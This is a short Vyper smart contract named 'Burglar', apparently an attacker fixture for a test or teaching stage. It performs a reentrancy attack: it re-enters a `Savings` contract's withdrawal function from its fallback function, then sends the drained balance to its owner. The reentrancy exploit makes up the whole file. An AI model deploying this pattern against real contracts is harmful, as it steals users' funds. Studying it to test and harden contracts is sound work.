# pragma version ~=0.4.3
# pragma evm-version cancun
# slither-disable-start all an attacker of a stage
"""
@title Burglar
@license Apache-2.0
@notice Robs `Savings` by taking again while it is being paid.
@custom:trust The owner gets the loot.
@custom:stop Nobody calls it.
"""

interface Savings:
    def bring(): payable
    def take_all(): nonpayable

VICTIM: immutable(Savings)
OWNER: immutable(address)

_left: uint256


@deploy
def __init__(victim: address):
    VICTIM = Savings(victim)
    OWNER = msg.sender


@payable
@external
def rob(times: uint256):
    """
    @notice Save what is sent along, take it out once and `times` more, and pass everything on.
    """
    assert msg.sender == OWNER, "burglar: not the owner"
    self._left = times
    extcall VICTIM.bring(value=msg.value)
    extcall VICTIM.take_all()
    raw_call(OWNER, b"", value=self.balance)


@payable
@external
def __default__():
    if self._left > 0:
        self._left -= 1
        extcall VICTIM.take_all()
